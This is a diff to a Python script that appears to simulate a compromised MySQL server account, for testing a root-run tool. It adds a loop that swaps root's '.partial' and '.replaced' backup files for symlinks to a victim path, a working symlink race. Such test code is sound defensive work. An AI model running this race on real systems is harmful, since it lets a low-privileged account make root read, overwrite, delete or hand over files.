@@ -2,7 +2,7 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Code that has taken over the server's account: it plants links, markers and FIFOs wherever it can write, again and
-again, to have root read, remove, move or give away what is in VICTIM.
+again, to have root read, write, remove, move or give away what is in VICTIM.
 
 Whatever it plants keeps the server itself running.
 """
@@ -18,6 +18,8 @@ import time
 
 VICTIM = "/srv/victim"
 TREES = "/var/lib/mysql*"
+#: a directory of backups that belongs to the account
+BACKUPS = "/srv/theirs"
 PAUSE = 0.02
 
 IN_PROGRESS = {
@@ -75,8 +77,24 @@ def link(target: str, path: str) -> None:
         os.symlink(target, path)
 
 
+def swap() -> None:
+    """Put links in the place of what root makes in a directory of ours, as soon as it is there."""
+    number = 0
+    while True:
+        for name in os.listdir(BACKUPS):
+            path = os.path.join(BACKUPS, name)
+            if name.endswith((".partial", ".replaced")) and not os.path.islink(path):
+                number += 1
+                with contextlib.suppress(OSError):
+                    os.rename(path, f"{path}.was{number}")
+                    os.symlink(VICTIM, path)
+
+
 def main(kinds: set[str]) -> None:
-    """Plant in the data directory and all that has its name (``top``), and in databases (``databases``)."""
+    """Plant in the data directory and all that has its name (``top``), and in databases (``databases``); or swap
+    directories (``swap``)."""
+    if "swap" in kinds:
+        swap()
     while True:
         for top in glob.glob(TREES):
             if "top" in kinds and os.path.isdir(top) and not os.path.islink(top):
